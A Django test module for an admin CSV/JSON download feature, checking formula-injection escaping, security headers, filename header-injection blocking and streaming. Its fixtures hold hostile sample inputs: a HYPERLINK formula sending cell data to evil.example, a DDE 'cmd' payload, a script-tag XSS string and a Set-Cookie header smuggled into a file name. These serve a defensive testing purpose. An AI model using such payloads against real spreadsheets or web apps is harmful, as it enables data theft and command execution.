"""Downloads: spreadsheets run no cell, browsers show no page, memory never holds all rows."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from contextlib import aclosing
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse
from django.test import SimpleTestCase

from pipeline.admin.downloads import CHUNK_CHARACTERS, Cell, csv_response, json_response

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-1|cmd",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
]
HARMLESS = [
    "",
    "plain",
    'with "quotes", commas; semicolons',
    "two\nlines",
    "' already quoted",
    "1-2",
    "a=b",
    "Grüße 🙂 \u202e",
    "</script><script>alert(1)</script>",
]


def sent(response: StreamingHttpResponse) -> str:
    return response.getvalue().decode()


def table(response: StreamingHttpResponse) -> list[list[str]]:
    return list(csv.reader(io.StringIO(sent(response).removeprefix("\ufeff"), newline="")))


class CsvTests(SimpleTestCase):
    def test_what_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(self):
        rows = table(csv_response("runs.csv", ["text"], [[text] for text in FORMULAS]))

        assert [row[0] for row in rows[1:]] == [f"'{text}" for text in FORMULAS]

    def test_a_header_is_guarded_too(self):
        assert table(csv_response("runs.csv", ["=1+1"], [])) == [["'=1+1"]]

    def test_every_other_text_comes_back_as_it_was(self):
        rows = table(csv_response("runs.csv", ["text", "next"], [[text, "|"] for text in HARMLESS]))

        assert rows[1:] == [[text, "|"] for text in HARMLESS]

    def test_a_cell_ends_where_it_ends_whatever_separates_cells(self):
        [_, line] = sent(csv_response("runs.csv", ["text"], [["a;=1+1"]])).splitlines()

        assert line == '"a;=1+1"'

    def test_figures_stay_figures(self):
        at = datetime(2026, 11, 24, 12, 3, tzinfo=UTC)
        cells: list[Cell] = [-5, -0.5, Decimal("-0.000000000012"), Decimal("1E+3"), True, None, at]

        [_, row] = table(csv_response("runs.csv", ["a"] * len(cells), [cells]))

        assert row == [
            *("-5", "-0.5", "-0.000000000012", "1000", "true", ""),
            "2026-11-24T12:03:00+00:00",
        ]


class JsonTests(SimpleTestCase):
    ITEMS: list[dict[str, Any]] = [
        {"text": text, "cost_usd": Decimal("0.1"), "n": 1} for text in FORMULAS + HARMLESS
    ]
    EXPECTED = [{**item, "cost_usd": "0.1"} for item in ITEMS]

    def test_it_is_an_array(self):
        for items, expected in ((self.ITEMS, self.EXPECTED), ([], [])):
            with self.subTest(count=len(items)):
                assert json.loads(sent(json_response("runs.json", items))) == expected

    def test_by_its_name_it_is_one_item_a_line(self):
        response = json_response("runs.jsonl", self.ITEMS)

        assert [json.loads(line) for line in sent(response).splitlines()] == self.EXPECTED
        assert response["Content-Type"].startswith("application/jsonl")


class SafetyTests(SimpleTestCase):
    def test_a_browser_stores_it_and_shows_it_under_no_other_type(self):
        table: list[tuple[StreamingHttpResponse, str]] = [
            (csv_response("runs.csv", ["a"], []), "text/csv; charset=utf-8"),
            (json_response("runs.json", []), "application/json"),
        ]
        for response, content_type in table:
            with self.subTest(content_type):
                assert response["Content-Type"] == content_type
                assert response["Content-Disposition"].startswith('attachment; filename="runs.')
                assert response["X-Content-Type-Options"] == "nosniff"
                assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
                assert response["Cache-Control"] == "no-store"

    def test_a_files_name_adds_no_header(self):
        response = csv_response('a"; x="b\nSet-Cookie: c.csv', ["a"], [])

        assert "\n" not in response["Content-Disposition"]
        assert "Set-Cookie" not in response


class StreamTests(SimpleTestCase):
    def test_rows_are_read_when_they_are_sent(self):
        read: list[int] = []
        chunks = iter(csv_response("runs.csv", ["n", "text"], _rows(read)))

        first = next(chunks)

        assert len(first) < CHUNK_CHARACTERS + 2000
        assert len(read) < 100

    async def test_an_asynchronous_server_streams_as_well(self):
        read: list[int] = []
        response = csv_response("runs.csv", ["n", "text"], _rows(read))

        async with aclosing(aiter(response)) as chunks:  # type: ignore[type-var]
            first = await anext(chunks)

        assert first.startswith(b'\xef\xbb\xbf"n","text"\r\n"0","x')
        assert len(read) < 100

    async def test_both_send_the_same(self):
        rows: list[list[Cell]] = [[number, "x" * 1000] for number in range(300)]

        received = [part async for part in csv_response("runs.csv", ["n", "text"], rows)]

        assert len(received) > 3
        assert b"".join(received).decode() == sent(csv_response("runs.csv", ["n", "text"], rows))


def _rows(read: list[int]) -> Iterator[list[Any]]:
    for number in range(1_000_000):
        read.append(number)
        yield [number, "x" * 1000]


class ExcelTests(SimpleTestCase):
    def test_a_table_begins_with_what_excel_knows_utf_8_by(self):
        content = csv_response("runs.csv", ["name"], [["Оля Ünal"]]).getvalue()

        assert content.startswith(b"\xef\xbb\xbf")
        assert content.decode("utf-8-sig").splitlines() == ['"name"', '"Оля Ünal"']
